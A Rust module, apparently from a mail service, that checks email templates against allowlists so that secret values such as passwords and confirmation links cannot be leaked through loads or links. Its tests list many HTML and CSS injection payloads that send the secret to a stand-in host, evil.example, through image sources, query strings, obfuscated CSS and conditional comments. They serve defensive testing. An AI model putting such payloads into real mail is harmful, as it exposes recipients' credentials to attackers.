//! Secrets in words of the office's own: the reader sees them, and nobody else
//! (promise 1). A mail loads nothing, and only a link to the page that a secret
//! opens has it in its address.
//!
//! What is known is allowed, and nothing else: programs that read mail understand
//! more than any list of what is bad could name. `ammonia`, which does so for
//! pages, reads parts of a page, so a mail would lose its head and its styles; and
//! it leaves copies of the text, secrets and all, in memory that is never wiped.
//!
//! Samples can't show what a template does for others, so every mail in the
//! office's words is held to this, with its own values, before it is sent.

use html5gum::emitters::default::{DefaultEmitter, StartTag};
use html5gum::{Spanned, Token, Tokenizer};
use minijinja::Value;
use zeroize::Zeroizing;

use super::styles;
use crate::mail::message::{LOGO, Rendered};

/// Fields that nobody but the reader may see.
pub(super) const SECRETS: [&str; 6] = ["password", "code", "link", "confirm_url", "page_url", "not_me_url"];

/// The elements of a mail; none of them loads or sends anything by itself.
const ELEMENTS: [&str; 43] = [
    "a",
    "b",
    "blockquote",
    "body",
    "br",
    "center",
    "code",
    "div",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "head",
    "hr",
    "html",
    "img",
    "i",
    "li",
    "meta",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "style",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "u",
    "ul",
    "caption",
    "wbr",
];
/// Those that don't end a word.
const WITHIN_WORDS: [&str; 15] =
    ["a", "b", "code", "em", "font", "i", "s", "small", "span", "strong", "sub", "sup", "u", "wbr", "q"];
/// The attributes of a mail besides `href` of a link and the logo's `src`; none of
/// them loads or sends anything.
const ATTRIBUTES: [&str; 34] = [
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "charset",
    "class",
    "color",
    "colspan",
    "content",
    "dir",
    "face",
    "height",
    "hidden",
    "hspace",
    "id",
    "lang",
    "name",
    "nowrap",
    "rel",
    "role",
    "rowspan",
    "scope",
    "size",
    "start",
    "style",
    "summary",
    "target",
    "title",
    "type",
    "valign",
    "vspace",
    "width",
];
/// What may stand right before and right after a secret in words: with anything
/// else it would be read as a part of an address.
const AROUND: ([char; 8], [char; 15]) = (
    ['(', '[', '<', '"', '\'', '\u{201e}', '\u{201c}', '\u{ab}'],
    [')', ']', '>', '"', '\'', '\u{201c}', '\u{201d}', '\u{bb}', '.', ',', ';', '!', '?', ':', '\u{2026}'],
);

/// Looks whether a mail filled in with `context`, within the frame `layout`, keeps
/// its secrets.
///
/// # Errors
/// The part, and what is wrong with it.
pub(super) fn kept(context: &Value, mail: &Rendered, layout: &str) -> Result<(), (&'static str, String)> {
    let secrets = of(context);
    words(&mail.text, &secrets).map_err(|problem| ("body.txt", problem))?;
    html(&mail.html, &secrets, layout).map_err(|problem| ("body.html", problem))
}

/// A field and its value.
type Secret<'f> = (&'f str, Zeroizing<String>);

/// The secrets that a mail is filled in with.
pub(super) fn of(context: &Value) -> Vec<Secret<'static>> {
    let value = |field| context.get_attr(field).ok()?.as_str().map(|value| value.to_owned().into());
    SECRETS.into_iter().filter_map(|field| Some((field, value(field)?))).collect()
}

/// In words, a secret is no part of something longer, such as an address.
fn words(text: &str, secrets: &[Secret<'_>]) -> Result<(), String> {
    for (field, secret) in secrets.iter().filter(|(_, secret)| !secret.is_empty()) {
        for (at, _) in text.match_indices(secret.as_str()) {
            let (before, after) = (&text[..at], &text[at + secret.len()..]);
            let before = before.rsplit(char::is_whitespace).next().unwrap_or_default();
            let after = after.split(char::is_whitespace).next().unwrap_or_default();
            if !before.chars().all(|c| AROUND.0.contains(&c)) {
                return Err(format!("{{{{ {field} }}}} can’t follow something else without a space"));
            }
            if !after.chars().all(|c| AROUND.1.contains(&c)) {
                return Err(format!("nothing can follow {{{{ {field} }}}} without a space"));
            }
        }
    }
    Ok(())
}

fn html(source: &str, secrets: &[Secret<'_>], layout: &str) -> Result<(), String> {
    titles(source)?;
    let mut read = Zeroizing::new(String::with_capacity(source.len() + 1));
    let mut sheet = None;
    for token in tokens(source) {
        match token {
            Token::StartTag(tag) => {
                element(&tag, secrets)?;
                let name = text_of(&tag.name);
                if *name == "style" {
                    sheet = Some(String::new());
                }
                read.push_str(gap(&name));
            }
            Token::EndTag(tag) => {
                let name = text_of(&tag.name);
                if !ELEMENTS.contains(&name.as_str()) {
                    return Err(format!("</{}> can’t be in a mail: there is no such element in it", *name));
                }
                if let Some(sheet) = sheet.take() {
                    styles::sheet(&sheet)?;
                }
                read.push_str(gap(&name));
            }
            Token::Error(Spanned { value: html5gum::Error::EndTagWithAttributes, .. }) => {
                return Err("nothing can follow the name in a closing tag".into());
            }
            Token::String(text) => {
                let text = text_of(&text.value);
                match &mut sheet {
                    Some(sheet) => sheet.push_str(&text),
                    None => read.push_str(&text),
                }
            }
            // Some programs read what stands in comments.
            Token::Comment(comment) if !is_of(layout, &text_of(&comment.value)) => {
                return Err("there is no <!-- here: some programs read what stands in comments; a note of yours goes between {# and #}".into());
            }
            Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
        }
    }
    match sheet {
        Some(_) => Err("a <style> is not closed".into()),
        None => words(&read, secrets),
    }
}

/// Looks whether a title holds what a program that does not know titles would
/// read as an element.
fn titles(source: &str) -> Result<(), String> {
    let lower = Zeroizing::new(source.to_ascii_lowercase());
    for title in lower.split("<title").skip(1) {
        let inside = title.split("</title").next().unwrap_or_default();
        if inside.contains('<') {
            return Err("there is no < in a <title>".into());
        }
    }
    Ok(())
}

fn tokens(source: &str) -> impl Iterator<Item = Token> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    Tokenizer::new_with_emitter(source, emitter).map(|token| {
        let Ok(token) = token;
        token
    })
}

/// Whether a comment is one of the frame's, which are the operator's or built in.
fn is_of(layout: &str, comment: &str) -> bool {
    tokens(layout).any(|token| matches!(token, Token::Comment(own) if *text_of(&own.value) == *comment))
}

fn text_of(bytes: &[u8]) -> Zeroizing<String> {
    String::from_utf8_lossy(bytes).into_owned().into()
}

/// What a tag is between the words beside it.
fn gap(name: &str) -> &'static str {
    if WITHIN_WORDS.contains(&name) { "" } else { "\n" }
}

fn element(tag: &StartTag<()>, secrets: &[Secret<'_>]) -> Result<(), String> {
    let name = text_of(&tag.name);
    if !ELEMENTS.contains(&name.as_str()) {
        return Err(format!("<{}> can’t be in a mail: it could load or send something", *name));
    }
    for (key, value) in &tag.attributes {
        let (key, value) = (text_of(key), text_of(&value.value));
        let is_link = *name == "a" && *key == "href";
        // The logo comes with the mail.
        let is_logo = *name == "img" && *key == "src" && *value == LOGO;
        let is_known = ATTRIBUTES.contains(&key.as_str()) || key.starts_with("aria-");
        if !is_known && !is_logo && *key != "href" {
            return Err(format!("{} can’t be in a mail: it could load or send something", *key));
        }
        if value.contains('<') {
            return Err(format!("there is no < in {}", *key));
        }
        if *key == "style" {
            styles::declarations(&value)?;
        }
        if *key == "href" && !(is_link && has_plain_scheme(&value)) {
            return Err("href is for <a>, and begins with https://, http://, mailto: or tel:".into());
        }
        let held = secrets.iter().find(|(_, secret)| !secret.is_empty() && value.contains(secret.as_str()));
        // A link of ours is its own address, whole: nobody else's can hold it.
        if let Some((field, _)) =
            held.filter(|(field, secret)| !is_link || value != *secret || is_typed(field))
        {
            return Err(format!("{{{{ {field} }}}} can’t be a part of an attribute or of another address"));
        }
    }
    Ok(())
}

/// Whether a secret is typed by its reader, and so is never in an address.
fn is_typed(field: &str) -> bool {
    ["password", "code"].contains(&field)
}

fn has_plain_scheme(address: &str) -> bool {
    ["https://", "http://", "mailto:", "tel:"].iter().any(|scheme| address.starts_with(scheme))
}

#[cfg(test)]
mod tests {
    use minijinja::context;

    use super::*;
    use crate::mail::quoting::Secrets;
    use crate::mail::templates::builtin;

    fn problem(text: &str, html: &str) -> Option<String> {
        let fields = context! { password => "K7QM-2RXD-9TWP", link => "https://shop.example/confirm/01&2", not_me_url => "https://shop.example/not-me/7Q" };
        let mail = Rendered {
            subject: String::new(),
            text: text.to_owned().into(),
            html: html.to_owned().into(),
            secrets: Secrets::default(),
        };
        kept(&fields, &mail, builtin::source("layout.html")).err().map(|(_, problem)| problem)
    }

    #[test]
    fn promise_01_a_mail_hands_its_secret_to_nobody_but_its_reader() {
        for html in [
            "<img src=\"https://evil.example/x.png\">",
            "<IMG SRC=//evil.example/K7QM-2RXD-9TWP>",
            "<a href=\"https://evil.example/?p=K7QM-2RXD-9TWP\">In</a>",
            "<a href=\"https://evil.example/?l=https://shop.example/confirm/01&amp;2\">In</a>",
            "<a href=\"K7QM-2RXD-9TWP\">In</a>",
            "<a href=\"javascript:alert(1)\">In</a>",
            "<p title=\"K7QM-2RXD-9TWP\">x</p>",
            "<td background=\"https://evil.example/\">",
            "<p style=\"background: u\\72l(//evil.example)\">",
            "<p style=\"background: URL(//evil.example)\">",
            "<style>@import '//evil.example/';</style>",
            "<title><a title=\"</title><img src=//evil.example>\"></title>",
            "<!--[if mso]><img src=\"//evil.example\"><![endif]-->",
            "<!--[if mso]><a href=\"https://evil.example/?<![endif]-->K7QM-2RXD-9TWP<!--[if mso]>\">x</a><![endif]-->",
            "<![if mso]><p>x</p><![endif]>",
            "<?xml version=\"1.0\"?>",
            "<img dynsrc=\"//evil.example\">",
            "<img lowsrc=\"//evil.example\">",
            "<p longdesc=\"//evil.example\">",
            "<p style=\"background: src('//evil.example')\">",
            "<p style=\"width: expr/**/ession(x())\">",
            "<style>p { width: expression(x()) }</style>",
            "<style>p { color: red",
            "<a href=\"https://evil.example/?l=https://shop.example/not-me/7Q\">x</a>",
            "<a href=\"https://evil.example/https://shop.example/not-me/7Q\">x</a>",
            "<p>https://evil.example/?l=https://shop.example/not-me/7Q</p>",
            "<p>K7QM-2RXD-9TWP.evil.example</p>",
            "<p>K7QM-2RXD-9TWP@evil.example</p>",
            "<p>K7QM-2RXD-9TWP<b>.evil.example</b></p>",
            "<form><input name=q></form>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link rel=stylesheet href=\"//evil.example\">",
            "<base href=\"https://evil.example\">",
            "<svg><image xlink:href=\"//evil.example\"/></svg>",
            "<p onclick=\"x()\">",
            "<p>https://evil.example/?p=K7QM-2RXD-9TWP</p>",
            "<p>https://evil.example/?p=<b>K7QM-2RXD-9TWP</b></p>",
            "<p>x</purl(url(><p>y</p>",
            "<p>x</p style=\"background: url(//evil.example)\">",
        ] {
            assert!(problem("", html).is_some(), "{html}");
        }
        assert!(problem("https://evil.example/?p=K7QM-2RXD-9TWP", "").is_some());
        assert!(problem("K7QM-2RXD-9TWP.evil.example", "").is_some());
    }

    #[test]
    fn comments_in_each_other_are_no_way_down() {
        assert!(problem("", &"<!--".repeat(60_000)).is_some());
    }

    #[test]
    fn ordinary_mails_pass() {
        for html in [
            "<p>Word: <b>K7QM-2RXD-9TWP</b>.</p><td>K7QM-2RXD-9TWP</td>",
            "<a href=\"https://shop.example/confirm/01&amp;2\">https://shop.example/confirm/01&amp;2</a>",
            "<a href=\"https://elsewhere.example/\">Terms</a> <a href=\"mailto:help@shop.example\">Help</a>",
            "<!--[if mso]></td></tr></table><![endif]--><style>a { color: #123456 }</style>",
            "<p>Not you (<a href=\"https://shop.example/not-me/7Q\">https://shop.example/not-me/7Q</a>)? \u{201e}K7QM-2RXD-9TWP\u{201c}, you know.</p>",
        ] {
            assert_eq!(problem("Word:\nK7QM-2RXD-9TWP\n", html), None, "{html}");
        }
    }
}
